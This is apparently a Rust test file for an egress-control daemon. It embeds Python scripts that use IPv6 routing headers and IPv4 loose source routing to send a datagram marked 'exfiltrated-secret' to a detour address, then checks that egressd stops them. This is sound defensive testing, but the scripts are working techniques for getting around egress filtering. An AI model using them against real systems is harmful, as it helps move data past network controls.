//! Source routing: options that make a packet go somewhere other than the
//! address the connect/sendmsg hooks approved. Each attack is first shown
//! to work ungoverned (a packet to the detour address is captured), then to
//! fail under egressd, where nothing reaches the detour address.

use egress_tests::{egressd::exec, listen::Listener, netns::Netns, require_root};

/// An IPv6 segment routing header (type 4, no privilege needed) set with
/// setsockopt(IPV6_RTHDR): the datagram for 2001:db8::1 (allowed) is sent
/// to 2001:db8::2 first.
const IPV6_SRH: &str = r#"
import socket, struct
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
x = socket.inet_pton(socket.AF_INET6, "2001:db8::1")
y = socket.inet_pton(socket.AF_INET6, "2001:db8::2")
srh = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + x + y
try:
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, srh)
    print("set")
except OSError as e:
    print("setsockopt", e.errno)
try:
    s.sendto(b"exfiltrated-secret", ("2001:db8::1", 443))
    print("sent")
except OSError as e:
    print("send", e.errno)
"#;

/// An IPv4 loose source route (IP_OPTIONS, LSRR) through 203.0.113.9, for a
/// datagram to 198.51.100.1 (allowed): it is sent to 203.0.113.9 first.
/// MODE "sockopt" sets it on the socket, "cmsg" per datagram (IP_RETOPTS).
const IPV4_LSRR: &str = r#"
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
hop = socket.inet_aton("203.0.113.9")
lsrr = bytes([131, 7, 4]) + hop + bytes([1])
try:
    if sys.argv[1] == "sockopt":
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, lsrr)
        s.sendto(b"exfiltrated-secret", ("198.51.100.1", 443))
    else:
        s.sendmsg([b"exfiltrated-secret"], [(socket.IPPROTO_IP, socket.IP_RETOPTS, lsrr)], 0, ("198.51.100.1", 443))
    print("sent")
except OSError as e:
    print("refused", e.errno)
"#;

const ALLOW: &[&str] = &[
    "--allow",
    "[2001:db8::1]:443/udp",
    "--allow",
    "198.51.100.1:443/udp",
];

fn attack(script: &str, args: &[&str], detour: &str) {
    require_root();
    let ns = Netns::new("srcroute").unwrap();
    let seen = Listener::capture(&ns, detour).unwrap();
    let mut argv = vec!["python3", "-c", script, "x"];
    argv.extend_from_slice(args);
    let ungoverned = ns.command(argv[0]).args(&argv[1..]).output().unwrap();
    assert!(
        String::from_utf8_lossy(&ungoverned.stdout).contains("sent"),
        "{ungoverned:?}"
    );
    assert!(
        seen.count() >= 1,
        "the attack did not reach {detour} even ungoverned"
    );
    let before = seen.count();

    let r = exec(&ns, ALLOW, &argv).unwrap();
    // The command ran (a refused start would reach nothing either).
    assert!(
        r.code == Some(0) && !r.stdout.trim().is_empty(),
        "the governed command did not run: {r:?}"
    );
    assert_eq!(
        seen.count(),
        before,
        "a packet reached {detour} from the governed cgroup: {}",
        r.stdout
    );
}

#[test]
fn ipv6_routing_header_by_setsockopt() {
    attack(IPV6_SRH, &[], "2001:db8::2");
}

#[test]
fn ipv4_source_route_by_setsockopt() {
    attack(IPV4_LSRR, &["sockopt"], "203.0.113.9");
}

#[test]
fn ipv4_source_route_by_control_message() {
    attack(IPV4_LSRR, &["cmsg"], "203.0.113.9");
}
